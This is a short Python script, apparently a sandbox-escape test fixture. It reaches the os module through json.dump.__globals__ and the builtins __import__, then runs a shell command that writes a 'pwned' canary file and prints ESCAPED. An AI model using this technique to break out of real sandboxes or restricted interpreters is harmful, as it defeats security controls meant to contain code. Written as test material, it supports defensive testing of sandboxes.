"""Reach os through a library function's __globals__."""

import json
import json as j
import sys

cfg = json.loads(sys.argv[1])
os_mod = j.dump.__globals__["__builtins__"]["__import__"]("os")
os_mod.system(f"touch {cfg['canary_dir']}/pwned && echo ESCAPED")
